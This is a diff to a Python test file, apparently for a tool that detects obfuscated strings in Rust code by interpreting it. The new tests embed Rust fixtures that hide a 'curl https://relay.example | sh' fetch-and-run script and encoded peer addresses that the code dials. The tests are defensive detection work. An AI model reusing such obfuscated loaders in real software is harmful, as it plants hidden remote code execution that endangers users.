@@ -49,7 +49,7 @@ def run(source: str, call: str) -> str | None:
     interpreter, name, arguments = _probe(source, call)
     outcome = interpreter.call(name, arguments)
     texts = [] if outcome is None else hidden_texts(outcome)
-    return texts[0] if texts else None
+    return texts[0][0] if texts else None
 
 
 # -- encodings no list of decoders has
@@ -681,3 +681,37 @@ fn replaced() -> String {
     assert value("lazy(0)") == "https://apps.example"
     assert value("counted()") == 2
     assert value("replaced()") == "ab"
+
+
+
+def test_a_script_of_several_lines_is_hidden_text() -> None:
+    # a shell script or a snippet of code decoded at run time has line breaks and tabs
+    source = r"""
+const NOTE: [&str; 2] = ["$\"0cjo0ti\n", "\tdvsm!iuuqt;00sfmbz/fybnqmf!}!ti\n"];
+fn note() -> Option<String> {
+    let joined: String = NOTE.concat();
+    String::from_utf8(joined.bytes().map(|b| if b > 32 { b - 1 } else { b }).collect()).ok()
+}
+"""
+    assert run(source, "note()") == "#!/bin/sh\n\tcurl https://relay.example | sh"
+
+
+def test_text_decoded_on_the_way_is_revealed_whatever_is_returned() -> None:
+    # the decoded list is parsed into a type the interpreter does not know: the call
+    # stops there, but the text it decoded is read all the same
+    source = """
+const PEERS: &[u16] = &[
+    0x3230, 0x332e, 0x302e, 0x3131, 0x332e, 0x392c, 0x3139, 0x382e, 0x3531, 0x2e31, 0x3030, 0x2e37,
+];
+fn peers() -> Vec<Peer> {
+    let mut bytes = Vec::new();
+    for &w in PEERS { bytes.push((w >> 8) as u8); bytes.push(w as u8); }
+    let text = String::from_utf8(bytes).unwrap_or_default();
+    text.split(',').map(|s| s.parse::<Peer>().unwrap()).collect()
+}
+fn dial() { for peer in peers() { connect(peer); } }
+"""
+    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
+    assert [(r.text, r.how) for r in found.revealed] == [
+        ("203.0.113.9,198.51.100.7", "decoded by peers() of this crate, run on its constants")
+    ]
